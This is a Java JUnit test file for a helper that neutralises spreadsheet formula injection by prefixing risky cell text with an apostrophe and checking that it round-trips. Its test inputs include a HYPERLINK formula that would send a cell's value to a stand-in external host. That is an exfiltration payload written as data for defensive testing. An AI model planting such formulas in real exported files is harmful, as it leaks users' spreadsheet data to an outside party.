package io.fedu2s.jobs.review;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CellsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "+1",
                "-2 points",
                "@SUM(A1)",
                "\t=1",
                "\uFF1D1",
                "3.50",
                "1/2",
                "5 March 2020",
                "At 6.",
                "007",
                "12345678901234567890123456789012",
                "1234567890123456789012345678e901"
            })
    void aTextThatASpreadsheetWouldTakeForSomethingElseIsGuardedAndComesBack(String text) {
        assertThat(Cells.guarded(text)).isEqualTo("'" + text);
        assertThat(Cells.plain(Cells.guarded(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Dr. Lund.",
                "'Twas noon.",
                "'",
                "It costs 3.50 in the shop behind the harbour.",
                "''=1",
                "'=1",
                "{\"grounding\":0.95,\"perplexity\":12.5}"
            })
    void everyTextComesBackAsItWas(String text) {
        assertThat(Cells.plain(Cells.guarded(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Dr. Lund.", "'Twas noon.", "It costs 3.50 in the shop behind the harbour."})
    void otherTextsAreLeftAlone(String text) {
        assertThat(Cells.guarded(text)).isEqualTo(text);
        assertThat(Cells.plain(text)).isEqualTo(text);
    }
}
